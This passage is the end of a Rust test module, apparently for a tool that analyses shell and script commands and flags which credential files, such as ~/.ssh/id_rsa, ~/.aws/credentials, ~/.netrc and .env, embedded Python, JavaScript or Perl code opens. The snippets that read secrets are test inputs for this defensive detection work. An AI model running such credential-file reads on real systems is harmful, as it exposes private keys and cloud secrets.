                "os.path.join(os.environ['HOME'], '.aws', 'credentials')",
                false
            ),
            ["~/.aws/credentials"]
        );
        assert_eq!(
            names(
                Lang::Python,
                "Path.home().joinpath('.ssh', 'id_rsa')",
                false
            ),
            ["~/.ssh/id_rsa"]
        );
        assert_eq!(
            names(Lang::Python, "os.getenv('HOME') + '/.netrc'", false),
            ["~/.netrc"]
        );
        assert_eq!(
            names(
                Lang::JavaScript,
                "path.join(require('os').homedir(), '.ssh', 'id_rsa')",
                false
            ),
            ["~/.ssh/id_rsa"]
        );
        assert_eq!(
            names(Lang::Perl, "open(F, $ENV{HOME} . '/.ssh/id_rsa')", false),
            ["~/.ssh/id_rsa"]
        );
        assert!(names(Lang::Python, "print(Path.home())", false).is_empty());
        assert!(names(Lang::Python, "os.path.join(home, '.ssh')", false).is_empty());
        // A script on stdin: only what a call opens or reads.
        assert!(
            names(
                Lang::Python,
                "print((Path.home() / '.ssh' / 'id_rsa').exists())",
                true
            )
            .is_empty()
        );
        assert_eq!(
            names(Lang::Python, "open(Path.home() / '.ssh' / 'id_rsa')", true),
            ["~/.ssh/id_rsa"]
        );
    }

    #[test]
    fn past_sixteen_the_rest_is_unknown() {
        let args = ["-c".to_owned(), "os.system('echo a')\n".repeat(40)];
        let found = nested("python3", &args, None, &Budget::default());
        assert_eq!(found.len(), MAX_COMMANDS + 1);
        assert!(matches!(found.last(), Some(Nested::Dynamic(_))));
    }

    #[test]
    fn literals() {
        let analysis = crate::shell::analyze(
            "python3 -c \"print(open('.env').read()) # '~/.ssh/id_rsa'\"",
            &crate::shell::ShellLimits::default(),
        );
        let python = analysis.commands.first().expect("python3");
        assert_eq!(string_literals_of(python), [".env"]);
    }
}
